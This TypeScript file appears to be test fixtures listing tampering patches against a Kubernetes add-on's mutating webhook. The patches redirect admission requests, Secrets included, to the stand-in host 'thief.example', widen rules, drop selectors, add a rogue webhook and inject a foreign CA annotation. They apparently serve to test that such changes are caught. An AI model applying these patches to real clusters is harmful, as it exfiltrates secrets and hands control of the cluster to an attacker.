import { merge, steps } from './api-requests.ts';
import type { Escape } from './escapes.ts';

const account = 'aliyun-acr-credential-helper';
const path = `/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/${account}`;
const everything = {
  apiGroups: ['*'],
  apiVersions: ['*'],
  operations: ['*'],
  resources: ['*/*'],
  scope: '*',
};
const thief = 'https://thief.example/';

/** Of the webhook's registration, with which somebody could have every request of the cluster sent to themselves. */
export const onRegistration: readonly Escape[] = [
  [
    'the webhook’s requests, sent to somebody else',
    'does not change who is asked',
    steps(path, { op: 'replace', path: '/webhooks/0/clientConfig/url', value: thief }),
  ],
  [
    'a webhook that is asked about everything',
    'asked about service accounts and nothing else',
    steps(path, { op: 'add', path: '/webhooks/0/rules', value: [everything] }),
  ],
  [
    'a webhook that is asked about Secrets, too',
    'asked about service accounts and nothing else',
    steps(path, {
      op: 'add',
      path: '/webhooks/0/rules',
      value: [
        {
          apiGroups: [''],
          apiVersions: ['v1'],
          operations: ['CREATE', 'UPDATE'],
          resources: ['serviceaccounts', 'secrets'],
          scope: 'Namespaced',
        },
      ],
    }),
  ],
  [
    'a webhook that is asked in kube-system',
    'about which objects its webhook is asked',
    steps(path, { op: 'remove', path: '/webhooks/0/namespaceSelector' }),
  ],
  [
    'a webhook that is asked about the add-on’s own requests',
    'about which objects its webhook is asked',
    steps(path, { op: 'remove', path: '/webhooks/0/matchConditions' }),
  ],
  [
    'a second webhook',
    'there is one webhook of the add-on',
    steps(path, {
      op: 'add',
      path: '/webhooks/-',
      value: {
        name: 'second.thief.example',
        clientConfig: { url: thief },
        rules: [everything],
        admissionReviewVersions: ['v1'],
        sideEffects: 'None',
      },
    }),
  ],
  [
    'an annotation that has somebody else write whom to trust',
    'changes no annotations but its own',
    merge(path, { metadata: { annotations: { 'cert-manager.io/inject-ca-from': 'served/theirs' } } }),
  ],
];
